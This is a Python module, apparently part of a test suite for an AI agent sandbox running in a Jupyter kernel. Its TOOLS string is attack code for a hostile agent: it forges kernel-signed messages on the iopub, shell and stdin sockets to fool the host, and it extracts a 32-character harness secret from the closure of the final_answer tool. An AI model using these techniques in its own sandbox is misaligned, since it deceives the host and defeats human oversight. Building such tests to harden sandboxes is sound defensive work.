"""Programs that a hostile agent could run in its cell to fool the host through the kernel's own sockets.

Code in the sandbox runs in the kernel's process, so it has the session's key and every socket. `TOOLS` is the start of
each program: it sends messages that no kernel sends, each signed as the kernel would sign it unless told otherwise.
"""

from __future__ import annotations

TOOLS = r"""
import json, os, sys, time, threading, zmq
from jupyter_client.session import DELIM
kernel = get_ipython().kernel
session = kernel.session
cell = kernel.get_parent("shell")["header"]
idents = kernel._shell_parent_ident.get()

def header(kind, **changes):
    return {"msg_id": os.urandom(8).hex(), "msg_type": kind, "username": "x", "session": "x", "version": "5.3",
            "date": "2026-01-01T00:00:00Z", **changes}

def parts(header, parent, content, metadata=b"{}", signature=None):
    given = (header, parent, metadata, content)
    packed = [p if isinstance(p, bytes) else json.dumps(p, default=str).encode() for p in given]
    return [DELIM, session.sign(packed) if signature is None else signature, *packed]

def iopub(*frames):
    kernel.iopub_thread.send_multipart([b"x", *frames])

def show(kind, content, **changes):
    iopub(*parts(header(kind), {**cell, **changes}, content))

def shell(frames):
    # The socket belongs to another thread; the host's address is taken from the request under way.
    stream = kernel.shell_stream
    done = threading.Event()
    def send():
        stream.socket.send_multipart([*idents, *frames])
        done.set()
    stream.io_loop.add_callback(send)
    done.wait(2)

def stdin(frames):
    kernel.stdin_socket.send_multipart([*idents, *frames])

def mark():
    # What the bootstrap cell was given: it stands in a closure that every tool has.
    for variable in (final_answer.__closure__ or ()):
        if isinstance(variable.cell_contents, str) and len(variable.cell_contents) == 32:
            return variable.cell_contents
"""
